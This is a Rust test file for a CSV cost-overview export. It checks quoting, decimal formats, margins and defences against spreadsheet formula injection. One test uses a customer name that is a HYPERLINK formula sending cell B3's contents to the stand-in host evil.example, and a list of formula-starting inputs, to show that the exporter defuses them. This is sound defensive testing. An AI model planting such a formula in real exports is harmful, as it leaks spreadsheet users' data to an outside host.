use super::*;
use crate::domain::cost_history::Figures;
use crate::domain::cost_overview::{overview_rows, CustomerBill};
use crate::domain::CustomerStatus;

fn month(s: &str) -> BillingMonth {
    BillingMonth::parse(s).unwrap()
}

fn bill(id: i64, name: &str, users_cost: i64, options_cost: i64) -> CustomerBill {
    CustomerBill {
        customer_id: id,
        name: name.to_owned(),
        database_name: format!("db_{id}"),
        status: CustomerStatus::Active,
        figures: Figures::Final,
        users: 12,
        users_at_start: 10,
        users_at_end: 12,
        options: vec![
            BilledOption { code: "offline".into(), name: "Offline access".into() },
            BilledOption { code: "discovery".into(), name: "Discovery, \"Pro\"".into() },
        ],
        users_cost: Money::from_cents(users_cost),
        options_cost: Money::from_cents(options_cost),
        total: Money::from_cents(users_cost + options_cost),
        // A quarter on top of the cost.
        revenue: Some(Money::from_cents((users_cost + options_cost) * 5 / 4)),
        not_for_resale: false,
    }
}

fn file(format: CsvFormat) -> String {
    let names = ["Müller & Söhne GmbH", "Hoffmann, Weber & Partner", "\"Alpenblick\" Hotel", "Zeile 1\nZeile 2"];
    let bills: Vec<CustomerBill> =
        names.iter().enumerate().map(|(i, n)| bill(i as i64 + 1, n, 123_456 + i as i64, 5)).collect();
    let rows = overview_rows(month("2026-10"), bills, &[]);
    let shown: Vec<&OverviewRow> = rows.iter().collect();
    String::from_utf8(write(&shown, "EUR", format)).unwrap()
}

/// Reads a file back the way a spreadsheet would (RFC 4180).
fn read(text: &str, delimiter: u8) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn a_header_row_then_one_row_per_customer_with_every_column() {
    let records = read(&file(CsvFormat::Comma), b',');
    assert_eq!(records.len(), 5);
    assert_eq!(records[0], COLUMNS);
    assert!(records.iter().all(|r| r.len() == COLUMNS.len()));
    let first = &records[1];
    assert_eq!(&first[..7], ["2026-10", "1", "Müller & Söhne GmbH", "db_1", "active", "12", "new"]);
    assert_eq!(first[9], "Offline access, Discovery, \"Pro\"");
    assert_eq!(&first[12..18], ["1234.56", "0.05", "1234.61", "EUR", "Final", "offline discovery"]);
    // 1234.61 x 5 / 4 = 1543.2625 -> 154326 cents (integer division); margin 308.65 = 20.0 %.
    assert_eq!(&first[18..], ["1543.26", "308.65", "20.0", "false"]);
}

#[test]
fn revenue_and_margin_columns_come_last_and_stay_empty_where_not_recorded() {
    let bills = vec![
        bill(1, "Sold", 10_000, 0),
        CustomerBill { revenue: None, ..bill(2, "Closed before selling", 10_000, 0) },
        CustomerBill { revenue: Some(Money::ZERO), not_for_resale: true, ..bill(3, "Internal", 10_000, 0) },
        CustomerBill { revenue: Some(Money::from_cents(9_000)), ..bill(4, "At a loss", 10_000, 0) },
    ];
    let rows = overview_rows(month("2026-10"), bills, &[]);
    let shown: Vec<&OverviewRow> = rows.iter().collect();
    let text = String::from_utf8(write(&shown, "EUR", CsvFormat::Spreadsheet)).unwrap();
    let records = read(&text, b';');
    assert_eq!(&records[0][18..], ["revenue", "margin", "margin_percent", "not_for_resale"]);
    assert_eq!(&records[1][18..], ["125,00", "25,00", "20,0", "false"]);
    assert_eq!(&records[2][18..], ["", "", "", "false"]);
    assert_eq!(&records[3][18..], ["0,00", "-100,00", "", "true"]);
    assert_eq!(&records[4][18..], ["90,00", "-10,00", "-11,1", "false"]);
}

#[test]
fn commas_quotes_newlines_and_umlauts_survive_quoting() {
    let text = file(CsvFormat::Comma);
    assert!(text.contains("\"Hoffmann, Weber & Partner\""));
    assert!(text.contains("\"\"\"Alpenblick\"\" Hotel\""), "quotes doubled inside a quoted field");
    assert!(text.contains("\"Zeile 1\nZeile 2\""));
    assert!(text.ends_with("\r\n"), "RFC 4180 line ends");
    let names: Vec<String> = read(&text, b',').iter().skip(1).map(|r| r[2].clone()).collect();
    assert_eq!(names, ["Müller & Söhne GmbH", "Hoffmann, Weber & Partner", "\"Alpenblick\" Hotel", "Zeile 1\nZeile 2"]);
    assert!(!text.starts_with('\u{feff}'), "no byte order mark for programs");
}

#[test]
fn the_spreadsheet_format_uses_semicolons_decimal_commas_and_a_byte_order_mark() {
    let text = file(CsvFormat::Spreadsheet);
    assert!(text.starts_with('\u{feff}'));
    let records = read(&text, b';');
    assert_eq!(records[0], COLUMNS);
    assert_eq!(&records[2][12..15], ["1234,57", "0,05", "1234,62"]);
    assert_eq!(records[2][2], "Hoffmann, Weber & Partner");
}

#[test]
fn amounts_have_exactly_two_decimals_and_no_grouping() {
    assert_eq!(amount(Money::from_cents(123_456_789), '.'), "1234567.89");
    assert_eq!(amount(Money::from_cents(5), ','), "0,05");
    assert_eq!(amount(Money::from_cents(-250), '.'), "-2.50");
    assert_eq!(amount(Money::ZERO, '.'), "0.00");
}

#[test]
fn the_file_is_named_for_its_month() {
    assert_eq!(file_name(month("2026-10")), "cost-overview-2026-10.csv");
}

#[test]
fn text_cells_that_would_start_a_formula_are_quoted_with_an_apostrophe() {
    for attack in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1", "\u{a0}=1", "＝1+1", "－1", "＠x"]
    {
        assert_eq!(text_cell(attack), format!("'{attack}"), "{attack:?}");
    }
    for plain in ["Müller GmbH", "1+1=2", "a=b", "", "'already quoted", "2026-10"] {
        assert_eq!(text_cell(plain), plain, "{plain:?}");
    }
}

#[test]
fn a_customer_named_like_a_formula_reads_as_text_and_every_amount_stays_a_number() {
    let formula = "=HYPERLINK(\"https://evil.example/?x=\"&B3,\"Invoice\")";
    let mut evil = bill(1, formula, -250, 5);
    evil.database_name = "+db".to_owned();
    evil.options = vec![BilledOption { code: "-x".into(), name: "@opt".into() }];
    let before = vec![CustomerBill { users: 14, ..bill(1, formula, 0, 0) }];
    let rows = overview_rows(month("2026-10"), vec![evil], &before);
    let shown: Vec<&OverviewRow> = rows.iter().collect();
    for (format, delimiter, mark) in [(CsvFormat::Comma, b',', "."), (CsvFormat::Spreadsheet, b';', ",")] {
        let records = read(&String::from_utf8(write(&shown, "EUR", format)).unwrap(), delimiter);
        let row = &records[1];
        assert_eq!(row[2], format!("'{formula}"));
        assert_eq!(row[3], "'+db");
        assert_eq!(row[9], "'@opt");
        assert_eq!(row[17], "'-x");
        assert_eq!(row[6], "-2", "the change is a number");
        assert_eq!(row[12], format!("-2{mark}50"), "amounts are numbers, negative ones too");
        for cell in row {
            let first = cell.chars().next();
            assert!(!matches!(first, Some('=' | '+' | '@' | '\t' | '\r')), "{cell:?}");
        }
    }
}

#[test]
fn the_layout_offered_first_follows_the_language() {
    use crate::domain::locale::Language;
    assert_eq!(CsvFormat::first_for(Language::German), CsvFormat::Spreadsheet);
    assert_eq!(CsvFormat::first_for(Language::English), CsvFormat::Comma);
}
